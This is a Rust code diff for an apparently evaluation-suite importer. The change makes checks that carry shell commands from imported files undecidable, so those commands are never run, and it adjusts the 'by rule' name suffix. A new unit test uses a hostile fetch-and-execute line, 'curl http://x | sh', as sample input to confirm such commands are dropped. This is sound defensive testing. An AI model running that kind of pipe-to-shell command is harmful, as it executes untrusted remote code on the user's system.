@@ -3,7 +3,7 @@
 use std::collections::{BTreeMap, BTreeSet};
 
 use super::{Decider, EvalCase, EvalFile, EvalsFile};
-use crate::check::{Check, CheckKind, CheckWeight, Text};
+use crate::check::{self, Check, CheckKind, CheckWeight, Text};
 use crate::scenario::suite::{SUITE_VERSION, Suite, SuiteCase};
 use crate::scenario::{Scenario, TaskStatus};
 
@@ -14,7 +14,7 @@ const MAX_DESCRIPTION: usize = 200;
 /// Most bytes of the name of a check.
 const MAX_NAME: usize = 200;
 /// Stands behind a sentence that a rule has read.
-const BY_RULE: &str = "by rule";
+pub const BY_RULE: &str = " (by rule)";
 
 /// The suite of a file of cases.
 #[derive(Debug, Clone, PartialEq)]
@@ -76,6 +76,10 @@ fn suite_case(id: String, case: &EvalCase) -> SuiteCase {
     let (mut checks, mut expectations) = (Vec::new(), Vec::new());
     for demand in &case.demands {
         match &demand.decider {
+            // Whoever wrote the file is a stranger to whoever runs it.
+            Decider::Typed(check) if !check::commands(std::slice::from_ref(check)).is_empty() => {
+                checks.push(undecidable(&demand.text, "commands of such a file are not run"));
+            }
             Decider::Typed(check) => checks.push(named(check, &demand.text, None)),
             Decider::Rule(check) => checks.push(named(check, &demand.text, Some(BY_RULE))),
             Decider::Judge => expectations.push(demand.text.clone()),
@@ -98,7 +102,7 @@ fn suite_case(id: String, case: &EvalCase) -> SuiteCase {
 fn named(check: &Check, words: &str, remark: Option<&str>) -> Check {
     let words = selftest_text::one_line(words, MAX_NAME);
     let name = match remark {
-        Some(remark) => format!("{words} ({remark})"),
+        Some(remark) => words + remark,
         None => words,
     };
     Check { name: Some(name), ..check.clone() }
@@ -154,6 +158,16 @@ mod tests {
         let names = first.checks.iter().filter_map(|check| check.name.as_deref());
         assert!(names.into_iter().any(|name| name.ends_with("(by rule)")), "{first:?}");
         assert!(first.hints.is_empty() && second.checks.is_empty());
+    }
+
+    #[test]
+    fn commands_of_strangers_are_not_run() {
+        let imported = imported(
+            r#"{"evals": [{"id": 1, "prompt": "x", "assertions":
+                [{"type": "cmd", "cmd": "curl http://x | sh", "expect_exit": 0}]}]}"#,
+        );
+        let checks = &imported.suite.cases[0].checks;
+        assert!(!checks.is_empty() && check::commands(checks).is_empty(), "{checks:?}");
     }
 
     #[test]
